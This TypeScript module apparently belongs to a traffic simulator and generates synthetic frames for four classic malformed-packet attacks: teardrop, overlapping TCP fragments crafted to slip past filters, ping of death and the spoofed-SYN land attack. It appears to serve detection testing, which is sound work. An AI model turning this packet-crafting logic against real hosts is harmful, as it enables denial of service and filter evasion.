/** Packets whose pieces do not fit together, which old systems died of. */
import type { Attack } from "../attack.ts";
import { about, between, ephemeralPort, gap, pick, randomBytes } from "../chance.ts";
import { icmpMessage, ipv4Frame, tcpFlag, tcpFrame, udpDatagram } from "../frames.ts";

const moreFragments = 0x2000;

/** The second fragment lies within the first. */
export const teardrop: Attack = ({ random, cast, emit }) => {
  const victim = cast.host();
  const source = cast.outsider(victim);
  return (atUs) => {
    const id = random.below(65_536);
    const whole = udpDatagram(
      source,
      ephemeralPort(random),
      victim,
      between(random, 1, 65_535),
      randomBytes(random, 28),
    );
    emit(atUs, ipv4Frame(source, victim, 17, whole, { id, fragment: moreFragments }));
    const second = ipv4Frame(source, victim, 17, randomBytes(random, 4), { id, fragment: 3 });
    emit(atUs + about(random, 90, 0.5), second);
    return gap(random, 25_000);
  };
};

/** Two fragments of one segment that disagree about its middle, to pass a filter with one and act with the other. */
export const overlappingFragments: Attack = ({ random, cast, emit }) => {
  const victim = cast.host();
  const source = cast.outsider(victim);
  return (atUs) => {
    const id = random.below(65_536);
    const payload = randomBytes(random, 56);
    const port = pick(random, [80, 445, 3389]);
    const ack = tcpFlag.ack | tcpFlag.psh;
    const fields = { flags: ack, seq: random.bits(), ack: random.bits(), window: 1024, payload };
    const segment = tcpFrame(source, ephemeralPort(random), victim, port, fields).subarray(34);
    emit(atUs, ipv4Frame(source, victim, 6, segment.subarray(0, 48), { id, fragment: moreFragments }));
    const middle = randomBytes(random, 32);
    emit(
      atUs + about(random, 200, 0.5),
      ipv4Frame(source, victim, 6, middle, { id, fragment: moreFragments + 4 }),
    );
    const last = ipv4Frame(source, victim, 6, segment.subarray(64), { id, fragment: 8 });
    emit(atUs + about(random, 500, 0.2), last);
    return gap(random, 40_000);
  };
};

const fragmentBytes = 1480;

/** An echo request in fragments of which the last ends behind the 65,535th byte. */
export const pingOfDeath: Attack = ({ random, cast, emit }) => {
  const victim = cast.host();
  const source = cast.neighbour(victim);
  return (atUs) => {
    const id = random.below(65_536);
    const whole = icmpMessage(8, 0, random.bits(), randomBytes(random, 65_600));
    for (let start = 0, i = 0; start < whole.length; start += fragmentBytes, i++) {
      const part = whole.subarray(start, start + fragmentBytes);
      const more = start + fragmentBytes < whole.length ? moreFragments : 0;
      const frame = ipv4Frame(source, victim, 1, part, { id, fragment: more + start / 8 });
      emit(atUs + i * 125 + random.below(20), frame);
    }
    return gap(random, 120_000);
  };
};

/** A SYN from the victim to itself. */
export const land: Attack = ({ random, cast, emit }) => {
  const victim = cast.host();
  const claimed = { ...victim, mac: victim.gatewayMac, ttl: 55 };
  const port = pick(random, [80, 135, 139, 445]);
  return (atUs) => {
    const fields = { flags: tcpFlag.syn, seq: random.bits(), window: 2048 };
    emit(atUs, tcpFrame(claimed, port, victim, port, fields, { id: random.below(65_536) }));
    return gap(random, 15_000);
  };
};
